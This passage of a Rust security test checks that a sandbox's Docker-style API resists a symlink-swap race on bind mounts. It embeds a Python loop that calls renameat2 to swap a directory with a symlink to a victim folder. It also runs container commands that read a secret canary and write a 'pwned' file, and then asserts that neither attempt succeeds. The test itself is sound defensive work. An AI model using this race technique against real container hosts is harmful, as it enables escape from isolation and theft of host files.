    if !has_umoci {
        if std::env::var("CI").as_deref() == Ok("true") {
            panic!("umoci is not installed (scripts/test.sh installs it)");
        }
        eprintln!("SKIPPED: umoci is not installed");
        return;
    }
    let shared = HostDir::new("srcswap");
    set_mode(&shared.path, 0o777);
    let allowed = shared.join("allowed");
    std::fs::create_dir(&allowed).expect("mkdir");
    set_mode(&allowed, 0o777);
    let victim = shared.join("victim");
    std::fs::create_dir(&victim).expect("mkdir");
    set_mode(&victim, 0o777);
    let token = unique("secret");
    std::fs::write(victim.join("canary"), &token).expect("write");
    set_mode(&victim.join("canary"), 0o644);
    let data = shared.join("data");
    import_busybox(&shared.path, &data, &bb);

    let renameat2 = if cfg!(target_arch = "aarch64") {
        276
    } else {
        316
    };
    let swapper = format!(
        r#"
import time
os.mkdir("/workspace/d")
os.symlink("../victim", "/workspace/l")
open("/workspace/ready", "w").close()
n = 0
end = time.time() + 40
while time.time() < end and not os.path.exists("/workspace/stop"):
    for _ in range(200):
        sc({renameat2}, -100, S(b"/workspace/d"), -100, S(b"/workspace/l"), 2)
        n += 1
R["swaps"] = n
out()
"#
    );
    let allowed_s = allowed.to_str().expect("utf-8").to_string();
    let attacker = {
        let a = allowed_s.clone();
        std::thread::spawn(move || {
            py_cmd(
                Cmd::cordon().deadline(Duration::from_secs(80)),
                &["--workspace", &a],
                &swapper,
            )
        })
    };
    let start = Instant::now();
    while !allowed.join("ready").exists() {
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "the swapper never started"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port")
        .port();
    let mut cmd = std::process::Command::new(cordon_bin());
    cmd.args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(&data)
        .args(["--docker-listen", &format!("127.0.0.1:{port}")])
        .arg("--docker-bind-root")
        .arg(&allowed);
    let srv = serve::Server::start_command(cmd, data.clone());
    let bind = format!("{}/d:/mnt", allowed.display());
    let (mut made, mut refused) = (0, 0);
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(15) {
        let (st, c) = docker(
            port,
            &srv.key,
            "POST",
            "/containers/create",
            Some(json!({
                "Image": "localhost/oci:t",
                "Cmd": ["/bin/sh", "-c", "cat /mnt/canary; echo pwned > /mnt/pwned"],
                "HostConfig": {"Binds": [bind]},
            })),
        );
        if st == 403 {
            refused += 1;
            std::thread::sleep(Duration::from_millis(20));
            continue;
        }
        if st == 429 {
            std::thread::sleep(Duration::from_millis(200));
            continue;
        }
        if st != 201 {
            // The source changed between the check and the mount: setup refused it.
            assert!(st >= 400, "create: {st} {c}");
            refused += 1;
            continue;
        }
        let id = c["Id"].as_str().expect("Id").to_string();
        let (st, v) = docker(
            port,
            &srv.key,
            "POST",
            &format!("/containers/{id}/start"),
            None,
        );
        if st == 204 {
            made += 1;
            let (_, w) = docker(
                port,
                &srv.key,
                "POST",
                &format!("/containers/{id}/wait"),
                None,
            );
            let (_, logs) = docker(
                port,
                &srv.key,
                "GET",
                &format!("/containers/{id}/logs?stdout=1&stderr=1"),
                None,
            );
            assert!(
                !logs.to_string().contains(&token),
                "container {made} read the host directory's secret: {w} {logs}"
            );
        } else {
            // Setup refused (the source changed under it): not an escape.
            assert!(st >= 400, "start: {st} {v}");
        }
        let _ = docker(
            port,
            &srv.key,
            "DELETE",
            &format!("/containers/{id}?force=1"),
            None,
        );
        let left = planted(&victim);
        assert_eq!(
            left,
            ["canary"],
            "container {made} wrote to the host directory the swapped link names"
        );
    }
    std::fs::write(allowed.join("stop"), "").expect("stop");
    let o = attacker.join().expect("the attacker's thread");
    o.assert_ok();
    drop(srv);
    eprintln!("containers started: {made}, refused at the check: {refused}");
    assert!(made > 0, "no container ever started");
    assert_eq!(planted(&victim), ["canary"]);
}
